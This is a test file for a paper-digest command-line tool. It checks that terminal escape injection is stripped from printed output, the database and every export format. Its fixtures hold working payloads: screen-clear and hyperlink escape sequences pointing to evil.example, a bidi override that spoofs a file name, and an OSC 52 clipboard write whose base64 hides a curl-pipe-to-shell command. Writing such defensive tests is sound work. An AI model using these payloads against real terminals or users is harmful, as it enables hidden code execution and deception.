// Terminal escape injection (issue 17): a title, an author or a body can carry ESC sequences (clear
// the screen, OSC 8 hyperlinks, OSC 52 clipboard writes) and bidi overrides. Nothing the command
// line prints may carry them, and neither may the store or an export.
import { readFileSync, writeFileSync } from 'node:fs';
import { fixturePath } from '@labdigest/fixtures';
import { afterEach, describe, expect, test } from 'vitest';
import { corpusSliceDigest } from '../test/fixture-digests.ts';
import { serveText, startServer, type TestServer } from '../test/fixture-server.ts';
import { inDir, runCli, tempDir } from '../test/run-cli.ts';
import { openDb } from './store/open-db.ts';
import { papersSince } from './store/queries.ts';

let dir = tempDir();
let server: TestServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
  dir.remove();
  dir = tempDir();
});

const ESC = '\x1b';
const clear = `${ESC}[2J${ESC}[H`;
const hyperlink = (url: string, text: string) => `${ESC}]8;;${url}\x07${text}${ESC}]8;;\x07`;
const clipboard = `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo${ESC}\\`;
const rlo = '\u202e';
const pdf = '\u202c';

/** A title that clears the screen, hides a link, writes the clipboard, reverses text and holds a NUL. */
const hostileTitle = `Solid polymer electrolyte${clear} interphases ${hyperlink('https://evil.example/', 'for lithium')} metal batteries${clipboard} ${rlo}gnp.exe${pdf}\x00`;
const cleanTitle = 'Solid polymer electrolyte interphases for lithium metal batteries gnp.exe';
const hostileAuthor = `${ESC}[31mMallory${ESC}[0m Evil\x07`;

/** True when `text` holds a control character other than newline and tab, or a bidi override. */
const unsafe = (text: string) => /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.test(text);

function hostileJsonl(): string {
  const file = inDir(dir.path, 'hostile.jsonl');
  writeFileSync(file, `${JSON.stringify({
    id: 'doi:10.1234/hostile.1', title: hostileTitle, authors: [hostileAuthor, 'Alice Good'],
    abstract: `We study solid polymer electrolyte interphases.${clear} Lithium dendrites ${hyperlink('https://evil.example/', 'grow')}.`,
    published: '2026-06-01', venue: `Journal of ${rlo}Batteries`, doi: '10.1234/hostile.1',
  })}\n`);
  return file;
}

describe('what the command line prints', () => {
  test('search: titles and authors come out clean', async () => {
    const db = inDir(dir.path, 'store.sqlite');
    expect((await runCli('import', hostileJsonl(), '--db', db)).code).toBe(0);
    const { code, out, err } = await runCli('search', 'electrolyte', '--db', db);
    expect({ code, err, unsafe: unsafe(out) }).toEqual({ code: 0, err: '', unsafe: false });
    expect(out).toBe(`  1.   0.00  ${cleanTitle}\n             doi:10.1234/hostile.1 · 2026-06-01 · Journal of Batteries · Mallory Evil, Alice Good\n`
      .replace('0.00', out.slice(7, 11)));
  });

  test('the store holds no control character, escape sequence, NUL or bidi override', async () => {
    const db = inDir(dir.path, 'store.sqlite');
    await runCli('import', hostileJsonl(), '--db', db);
    const store = openDb(db);
    const [stored] = papersSince(store);
    store.close();
    expect(stored).toMatchObject({ title: cleanTitle, authors: ['Mallory Evil', 'Alice Good'], venue: 'Journal of Batteries' });
    expect(unsafe(JSON.stringify(stored))).toBe(false);
    expect(unsafe(stored?.abstract ?? '')).toBe(false);
  });

  test('rank --print: the ranked titles come out clean', async () => {
    const { code, out } = await runCli('rank', '--papers', hostileJsonl(), '--config', fixturePath('../digest.config.yaml'), '--print', '--idf', 'background');
    expect(code).toBe(0);
    expect(out).toContain(`\n   1. 0.84  ${cleanTitle}\n`);
    expect(unsafe(out)).toBe(false);
  });

  test('export --format text, to the terminal and to a file, and every other format, carry none of it', async () => {
    const digest = corpusSliceDigest();
    const [first] = digest.sections;
    const entry = first?.papers[0];
    if (!first || !entry) throw new Error('the corpus slice digest has papers');
    const hostile = {
      ...digest,
      sections: [{ ...first, papers: [{ ...entry, title: hostileTitle, authors: [hostileAuthor], summary: `Found${clear} things.` }, ...first.papers.slice(1)] }, ...digest.sections.slice(1)],
    };
    const file = inDir(dir.path, 'digest.json');
    writeFileSync(file, JSON.stringify(hostile));
    const text = await runCli('export', '--digest', file, '--format', 'text');
    expect(text.code).toBe(0);
    expect(text.out).toContain(`1. ${cleanTitle.slice(0, 40)}`);
    expect(unsafe(text.out)).toBe(false);
    for (const format of ['text', 'markdown', 'html', 'atom', 'bibtex']) {
      const out = inDir(dir.path, `digest.${format}`);
      expect((await runCli('export', '--digest', file, '--format', format, '--out', out)).code).toBe(0);
      expect(unsafe(readFileSync(out, 'utf8')), format).toBe(false);
    }
  });

  test('error messages: a remote body that is not a feed is quoted with its controls escaped', async () => {
    server = await startServer({ '/feed': serveText(`Welcome!${clear}${clipboard} Not a feed at all.`, { 'content-type': 'text/plain' }) });
    const { code, err } = await runCli('fetch', '--feed', `${server.origin}/feed`, '--db', inDir(dir.path, 's.sqlite'), '--config', inDir(dir.path, 'none.yaml'));
    expect(code).toBe(1);
    expect(unsafe(err)).toBe(false);
    expect(err.split('\n')[0]).toBe(`127.0.0.1: [127.0.0.1] ${server.origin}/feed not a feed this tool reads (arXiv, Crossref, OpenAlex, RSS, Atom): `
      + 'saw "Welcome!\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fH…"');
  });

  test('error messages: command-line text is printed without its controls', async () => {
    const { code, err } = await runCli('search', `--x${clear}`);
    expect(code).toBe(2);
    expect(unsafe(err)).toBe(false);
    expect(err).toBe("error: unknown option '--x'\n(run with --help for usage)\n");
  });
});
